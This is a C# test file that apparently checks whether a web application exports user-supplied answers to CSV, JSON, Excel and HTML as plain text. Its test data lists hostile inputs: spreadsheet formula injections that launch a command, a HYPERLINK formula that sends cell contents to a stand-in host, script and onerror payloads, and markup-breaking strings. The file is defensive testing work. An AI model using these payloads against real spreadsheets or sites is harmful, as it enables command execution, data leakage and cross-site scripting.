using System.Text.Json;
using AngleSharp.Html.Parser;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using Hawl.Core.Data;
using Hawl.Core.Datasets;
using Hawl.Reading.Answers;
using Hawl.Tests.Core.Datasets;
using Hawl.Tests.Support;
using Hawl.Web.Pages.Batches;

namespace Hawl.Tests.Web.Api;

// What an authority writes into its answer is words, wherever it is shown.
public sealed class HostileAnswerTests(TestSite site) : IClassFixture<TestSite>
{
    public static TheoryData<string> Values =>
    [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
        "\u202E=1+1 tneserp",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "]]></t></is></c><c><f>1+1</f></c>",
        "_x000D__x003D_1+1",
        "salt\u0000 \u0007and\u001B[31m grit\uFFFF",
        "\"},\"rows\":[]}",
        new string('g', 40_000) + " and more",
    ];

    [Theory]
    [MemberData(nameof(Values))]
    public async Task Get_EachForm_HoldsItAsWordsOnly(string value)
    {
        var asked = await SomeAnswers.AskedAsync(site.Some, 1);
        await asked.ReplyAsync(0, "It is as follows.", ("1", AnswerType.Text, value), ("2", AnswerType.Yes, null));
        var kept = StorableText.Of(value);

        var csv = await site.TextAsync(asked.Path("table.csv"));
        Assert.Contains(kept.Replace("\"", "\"\"", StringComparison.Ordinal), csv, StringComparison.Ordinal);
        Assert.DoesNotMatch("(^|,)\"?[\u202E ]*[=+@-]", csv.Split("\r\n")[1]);
        Assert.Equal(3, csv.Split("\r\n").Length);
        using var table = JsonDocument.Parse(await site.TextAsync(asked.Path("table.json")));
        Assert.Equal(kept, Cell(table).GetProperty("value").GetString());
        using var book = SpreadsheetDocument.Open(await StreamAsync(asked.Path("table.xlsx")), false);
        Assert.Empty(new OpenXmlValidator().Validate(book).Select(e => $"{e.Path?.XPath}: {e.Description}"));
        Assert.All(book.WorkbookPart?.WorksheetParts ?? [], sheet =>
        {
            Assert.Empty(sheet.Worksheet.Descendants<CellFormula>());
            Assert.All(sheet.Worksheet.Descendants<Cell>(), c => Assert.True(c.InnerText.Length <= SheetText.Longest));
        });
        var page = new HtmlParser().ParseDocument(await site.TextAsync(asked.Path("table")));
        var said = page.QuerySelector(".answers tbody td .cell-said");
        Assert.Empty(said?.Children ?? Enumerable.Empty<object>());
        Assert.StartsWith(kept[..10].Trim(), said?.TextContent.Trim(), StringComparison.Ordinal);
        Assert.True(said?.TextContent.Length <= BatchTableModel.LongestAnswer + 1);
        Assert.Empty(page.QuerySelectorAll("main script, main [onerror]"));
    }

    private static JsonElement Cell(JsonDocument table) =>
        table.RootElement.GetProperty("rows")[0].GetProperty("cells").GetProperty("1");

    private async Task<Stream> StreamAsync(string path)
    {
        using var answer = await site.GetAsync(path);
        return new MemoryStream(await answer.Content.ReadAsByteArrayAsync());
    }
}
